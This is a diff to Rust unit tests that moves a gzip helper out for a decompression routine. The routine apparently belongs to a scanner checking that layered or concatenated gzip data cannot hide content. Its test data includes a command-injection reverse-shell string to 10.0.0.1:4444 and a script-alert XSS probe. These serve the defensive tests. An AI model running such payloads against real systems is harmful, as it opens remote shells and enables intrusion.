@@ -363,15 +363,15 @@ mod tests {
         }
     }
 
+    fn gzip(data: &[u8]) -> Vec<u8> {
+        use std::io::Write;
+        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), Compression::default());
+        encoder.write_all(data).unwrap();
+        encoder.finish().unwrap()
+    }
+
     #[test]
     fn layers_a_bad_checksum_and_the_engine_io_marker_do_not_hide_the_text() {
-        use flate2::write::GzEncoder;
-        use std::io::Write;
-        let gzip = |data: &[u8]| {
-            let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
-            encoder.write_all(data).unwrap();
-            encoder.finish().unwrap()
-        };
         let text = b"; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1".to_vec();
         let twice = gzip(&gzip(&text));
         assert_eq!(inflate_binary(&twice, 1 << 20), Ok(Some(text.clone())));
@@ -386,15 +386,8 @@ mod tests {
 
     #[test]
     fn gzip_members_that_follow_one_another_are_one_text() {
-        use flate2::write::GzEncoder;
-        use std::io::Write;
-        let member = |text: &[u8]| {
-            let mut gzip = GzEncoder::new(Vec::new(), Compression::default());
-            gzip.write_all(text).unwrap();
-            gzip.finish().unwrap()
-        };
-        let mut two = member(b"benign ");
-        two.extend_from_slice(&member(b"<script>alert(1)</script>"));
+        let mut two = gzip(b"benign ");
+        two.extend_from_slice(&gzip(b"<script>alert(1)</script>"));
         assert_eq!(
             inflate_binary(&two, 1 << 20),
             Ok(Some(b"benign <script>alert(1)</script>".to_vec()))
